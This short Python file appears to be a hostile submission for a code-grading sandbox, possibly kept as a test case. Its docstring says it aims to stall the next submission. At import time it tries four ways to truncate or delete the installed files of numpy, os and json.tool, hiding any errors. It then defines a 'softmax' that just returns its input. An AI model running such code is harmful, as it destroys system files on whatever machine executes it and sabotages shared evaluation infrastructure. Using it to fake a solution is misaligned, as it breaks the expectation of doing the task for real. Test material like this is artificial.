"""Tries: to empty a file of Python's own, which we may read.
Won if: stall: the next submission suffers.
Naive grader: not run: it would harm the machine.
"""

import json.tool
import os

import numpy as np

for path in (np.__file__, os.__file__, json.tool.__file__):
    for way in (
        lambda: os.close(os.open(path, os.O_RDONLY | os.O_TRUNC)),
        lambda: os.truncate(path, 0),
        lambda: open(path, "w").close(),
        lambda: os.unlink(path),
    ):
        try:
            way()
        except OSError:
            pass

def softmax(scores, axis=-1):
    return scores
